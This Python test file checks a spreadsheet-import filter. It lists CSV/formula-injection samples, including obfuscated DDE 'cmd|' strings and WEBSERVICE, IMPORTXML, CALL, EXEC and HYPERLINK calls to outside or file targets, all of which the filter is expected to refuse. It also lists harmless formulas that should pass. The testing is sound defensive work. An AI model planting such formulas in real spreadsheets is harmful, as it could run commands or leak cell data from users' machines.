"""Which formulas are taken."""

import pytest

from ahsp.imports.gate.formulas import danger

EXCHANGES = [
    "cmd|'/C echo inert'!A0",
    "+CmD|'/c x'!'A0'",
    "IF(TRUE,cmd|'/C x'!A0,0)",
    "MSEXCEL|'\\..\\inert'!''",
    "a.b|c!d",
    "'cmd|/C echo'!A0",
    "SUM(A1:A3)+x|y!z",
    "cmd_x007C_'/C x'!A0",
    'IF("a""|b"="",x|y!z,"")',
]
CALLS = {
    'WEBSERVICE("http://x/"&A1)': "WEBSERVICE",
    '_xlfn.WEBSERVICE ( "http:"&"//x/" )': "WEBSERVICE",
    'FILTERXML(_xlfn.webservice("x"),"//a")': "WEBSERVICE",
    '_x0057_EBSERVICE("x")': "WEBSERVICE",
    "WEBSERVICE\n\u00a0(A1)": "WEBSERVICE",
    "MAP(A1:A3,_xleta.WEBSERVICE)": "WEBSERVICE",
    'IMPORTXML("x","y")': "IMPORTXML",
    'IMPORTDATA("x")': "IMPORTDATA",
    'IMPORTRANGE("x","A1")': "IMPORTRANGE",
    'IMPORTHTML("x","table",1)': "IMPORTHTML",
    'IMPORTFEED("x")': "IMPORTFEED",
    '_xlfn.IMAGE("http://x")': "IMAGE",
    'RTD("p","","x")': "RTD",
    'CALL("a.dll","f","J")': "CALL",
    'REGISTER("a","b")': "REGISTER",
    'Register.Id("a","b")': "REGISTER.ID",
    'EXEC("a")': "EXEC",
    'SQL.REQUEST("a")': "SQL.REQUEST",
    'DDE("a","b","c")': "DDE",
    'HYPERLINK("javascript:alert(1)","x")': "HYPERLINK",
    'HYPERLINK("http://x/?"&A1,"x")': "HYPERLINK",
    'HYPERLINK(A1,"x")': "HYPERLINK",
    'HYPERLINK("file:///c:/x","x")': "HYPERLINK",
    'HYPERLINK("\\\\host\\share","x")': "HYPERLINK",
    'IF(A1,HYPERLINK("https://x"),HYPERLINK(B1))': "HYPERLINK",
}
HARMLESS = [
    "J2",
    "SUM(H1:H9)*1.1",
    "VLOOKUP(D2,upahbahan,3,FALSE)",
    "'Jaringan Listrik'!D4",
    "'a|b'!A1",
    "'It''s a|b'!A1+1",
    '"cmd|x"',
    '"WEBSERVICE(" & "|" & A1',
    'IF(A1="he said ""DDE(1)""",1,2)',
    "Table1[a|b]",
    "Table1[[#All],['[x|y']]]",
    "[1]Sheet1!A1+[2]!nama",
    "'C:\\data\\[buku.xlsx]Harga'!A1",
    "{1,2;3,4}",
    'HYPERLINK("https://www.pu.go.id","PU")',
    ' HYPERLINK ( "mailto:a@b.id" ) ',
    'HYPERLINK("#\'Lembar 2\'!A"&ROW(),"ke sana")',
    "RECALL(1)+IMAGES(2)+MYEXEC(3)",
    'FILTERXML(A1,"//a")',
    "_xlfn.CONCAT(A1:A2)",
    "CALL+1",
    "",
]


@pytest.mark.parametrize("formula", EXCHANGES)
def test_data_exchange_is_refused_however_it_is_written(formula: str) -> None:
    assert danger(formula) == ("malicious_formula", "DDE")


@pytest.mark.parametrize(("formula", "function"), CALLS.items())
def test_calls_to_the_outside_are_refused_by_name(formula: str, function: str) -> None:
    assert danger(formula) == ("malicious_formula", function)


@pytest.mark.parametrize(
    "formula",
    [
        "'\\\\host\\share\\[x.xlsx]Sheet1'!A1",
        "\\\\host\\share\\[x]S!A1",
        "'//host/share/[x.xlsx]S'!A1",
        "'file://host/[x.xlsx]S'!A1",
        "SUM([\\\\host\\x.xlsx]S!A1)",
    ],
)
def test_cells_on_another_machine_are_refused(formula: str) -> None:
    found = danger(formula)
    assert found is not None
    assert found[0] == "external_link"


@pytest.mark.parametrize("formula", HARMLESS)
def test_harmless_formulas_pass_and_strings_are_no_code(formula: str) -> None:
    assert danger(formula) is None
